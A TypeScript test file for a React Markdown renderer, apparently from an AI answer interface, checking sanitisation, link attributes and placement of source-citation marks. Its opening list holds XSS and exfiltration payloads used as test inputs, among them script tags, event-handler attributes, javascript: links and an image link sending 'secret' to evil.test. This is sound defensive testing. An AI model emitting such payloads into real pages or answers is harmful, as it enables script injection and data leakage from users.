import { cleanup, render, screen } from "@testing-library/react";
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";
import { readCited } from "./sources";

afterEach(cleanup);

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<iframe src='https://evil.test'></iframe>",
  "![secret](https://evil.test/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](http://evil.test)",
  "[click](//evil.test)",
  "<a href='javascript:alert(1)'>x</a>",
  "<svg onload=alert(1)>",
  "<style>@import 'https://evil.test'</style>",
  "<form action='https://evil.test'><input name=x></form>",
  "[x]: https://evil.test/i.png\n\n![x][x]",
];

describe("markdown of an answer", () => {
  it.each(attacks)("neither runs nor loads anything: %s", (text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector("script, img, iframe, svg, style, form, input, object, embed, link")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src/);
        if (name === "href") expect(value).toMatch(/^(https:|mailto:)/);
      }
    }
  });

  it("opens https links in a new tab without telling where they were followed", () => {
    render(<Markdown text="[docs](https://example.com)" />);
    const link = screen.getByRole("link", { name: "docs" });
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
  });

  it("draws tables, lists and code", () => {
    const { container } = render(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n`code`"} />);
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("li")?.textContent).toBe("x");
    expect(container.querySelector("code")?.textContent).toBe("code");
  });
});

describe("marks of sources", () => {
  const marksAfter = (text: string, ...words: string[]) =>
    readCited(
      words.map((word) => ({
        url: `https://${word.replace(/\W/g, "") || "x"}.test/`,
        end: text.indexOf(word) + word.length,
      })),
      text,
    ).marks;

  /** The text that a reader sees, numbers in braces. */
  function shown(text: string, ...words: string[]): string {
    const { container } = render(<Markdown text={text} marks={marksAfter(text, ...words)} />);
    for (const mark of container.querySelectorAll(".citation")) mark.textContent = `{${mark.textContent}}`;
    return container.textContent;
  }

  it.each([
    ["One two. Three.", ["two.", "Three."], "One two.{1} Three.{2}"],
    ["A **bold** word", ["bold"], "A bold{1} word"],
    ["A **bold** word", ["bold**"], "A bold{1} word"],
    ["See ([a page](https://a.test/)) there", ["a.test/))"], "See (a page){1} there"],
    ["See ([a page](https://a.test/)) there", ["a.test/)"], "See (a page{1}) there"],
    ["- first\n- second\n\nEnd", ["first", "second"], "\nfirst{1}\nsecond{2}\n\nEnd"],
    ["| a | b |\n|---|---|\n| 1 | 2 |", ["2"], "ab12{1}"],
    ["# Head\n\nText 😀 more", ["😀"], "Head\nText 😀{1} more"],
    ["It \\* is &amp; was", ["is"], "It * is & was{1}"],
    ["`code` here", ["code`"], "code{1} here"],
  ])("stand where the answer names them: %j", (text, words, expected) => {
    expect(shown(text, ...words)).toBe(expected);
  });

  it("stand beside each other in one place", () => {
    const { marks } = readCited(
      [
        { url: "https://a.test/", end: 3 },
        { url: "https://b.test/", end: 3 },
      ],
      "One",
    );
    render(<Markdown text="One" marks={marks} />);
    expect(screen.getAllByRole("link").map((link) => link.getAttribute("href"))).toEqual([
      "https://a.test/",
      "https://b.test/",
    ]);
  });

  it("lead to the page in a new tab and name it", () => {
    const { marks } = readCited([{ url: "http://a.test/page", title: "Page A", end: 3 }], "One");
    render(<Markdown text="One" marks={marks} />);
    const link = screen.getByRole("link", { name: "Source 1: Page A" });
    expect([link.getAttribute("href"), link.getAttribute("target")]).toEqual(["http://a.test/page", "_blank"]);
    expect(link.getAttribute("rel")).toMatch(/noopener.*noreferrer/);
    expect(link.dataset.tip).toBe("Page A");
  });

  it("lead nowhere where the source is no page of the web", () => {
    const { marks } = readCited([{ url: "javascript:alert(1)", title: "x", end: 3 }], "One");
    const { container } = render(<Markdown text="One" marks={marks} />);
    expect([container.querySelectorAll("a").length, container.textContent]).toEqual([0, "One1"]);
  });

  it("stand beside a line across the page, which can hold nothing", () => {
    const text = "One\n\n***\n\nTwo";
    const { marks } = readCited([{ url: "https://a.test/", end: text.indexOf("***") + 1 }], text);
    const { container } = render(<Markdown text={text} marks={marks} />);
    expect([container.querySelectorAll("hr").length, container.querySelectorAll(".citation").length]).toEqual([1, 1]);
  });

  it("are lost nowhere in whatever is written", () => {
    const piece = fc.constantFrom(
      "word ",
      "*",
      "**",
      "`",
      "[x](https://a.test)",
      "\n",
      "\n\n",
      "- ",
      "> ",
      "| a |",
      "\\*",
      "&amp;",
      "😀",
      "    ",
      "www.a.test ",
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 12 }), fc.nat(), (pieces, place) => {
        const text = `Begin ${pieces.join("")}`;
        const { marks } = readCited([{ url: "https://a.test/", end: 1 + (place % text.length) }], text);
        const marked = render(<Markdown text={text} marks={marks} />).container;
        const plain = render(<Markdown text={text} />).container;
        expect(marked.querySelectorAll(".citation")).toHaveLength(1);
        marked.querySelector(".citation")?.remove();
        expect(marked.textContent).toBe(plain.textContent);
        cleanup();
      }),
    );
  });
});
